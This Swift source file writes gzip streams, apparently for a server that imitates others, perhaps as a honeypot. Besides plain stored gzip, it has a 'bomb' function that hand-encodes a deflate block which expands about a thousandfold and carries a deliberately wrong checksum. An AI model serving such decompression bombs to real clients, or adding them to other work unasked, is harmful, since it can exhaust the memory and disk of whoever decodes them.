import CZlib

/// Minimal gzip (RFC 1952) for imitating other servers; nothing is compressed here.
enum Gzip {
    /// Returns the bytes in gzip format, stored without compression. Linear.
    static func stored(_ bytes: [UInt8]) -> [UInt8] {
        var result = head + blocks(bytes, isLast: true)
        append(UInt32(truncatingIfNeeded: crc32(0, bytes, uInt(bytes.count))), to: &result)
        append(UInt32(truncatingIfNeeded: bytes.count), to: &result)
        return result
    }

    /// Returns a stream that begins with these bytes and continues with spaces until it decodes to about this size, of
    /// which it takes about a thousandth. Its checksum is wrong.
    static func bomb(_ bytes: [UInt8], unpackingTo size: Int) -> [UInt8] {
        // One block with dynamic Huffman codes (RFC 1951 §3.2.7): a space is 10, the end of block 11, a match of 258
        // bytes is 0, and its only distance 0. So a zero byte is four matches.
        let prologue: [UInt8] = bits(
            // The last block, dynamic codes; 286 lengths and one distance; 18 code lengths.
            ["1", "01", "10111", "00000", "0111"]
                // Code lengths in their order: 18 has one bit, 2 and 1 have two.
                + ["000", "000", "100"] + Array(repeating: "000", count: 12) + ["010", "000", "010"]
                // Zeros up to the space, its 2, zeros up to the end of block, its 2, zeros, 1 for the match; 1
                // distance.
                + ["0", "1010100", "11", "0", "1111111", "0", "0101001", "11", "0", "1000100", "10", "10"]
                // A space. The bits up to the next byte are zeros, too; their number is odd, so the last match is
                // completed at the end.
                + ["10"])
        let matches = [UInt8](repeating: 0, count: max(0, size - bytes.count) / 1032)
        var result = head + blocks(bytes, isLast: false) + prologue + matches + [0b110]
        append(0, to: &result)
        append(UInt32(truncatingIfNeeded: size), to: &result)
        return result
    }

    private static let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]

    /// Returns stored blocks (RFC 1951 §3.2.4) of at most 65535 bytes.
    private static func blocks(_ bytes: [UInt8], isLast: Bool) -> [UInt8] {
        var result: [UInt8] = []
        result.reserveCapacity(bytes.count + bytes.count / 8192 + 32)
        var rest = bytes[...]
        repeat {
            let part = rest.prefix(65535)
            rest = rest.dropFirst(part.count)
            let length = UInt16(part.count)
            result.append(isLast && rest.isEmpty ? 1 : 0)
            for word in [length, ~length] { result += [UInt8(word & 0xFF), UInt8(word >> 8)] }
            result += part
        } while !rest.isEmpty
        return result
    }

    /// Returns codes that are written as digits in stream order, the first bit lowest in its byte; the last byte is
    /// padded with zeros.
    private static func bits(_ codes: [String]) -> [UInt8] {
        var bytes: [UInt8] = []
        for (index, digit) in codes.joined().utf8.enumerated() {
            if index % 8 == 0 { bytes.append(0) }
            if digit == UInt8(ascii: "1") { bytes[bytes.count - 1] |= 1 << UInt8(index % 8) }
        }
        return bytes
    }

    private static func append(_ number: UInt32, to bytes: inout [UInt8]) {
        for shift in stride(from: UInt32(0), to: 32, by: 8) { bytes.append(UInt8(number >> shift & 0xFF)) }
    }
}
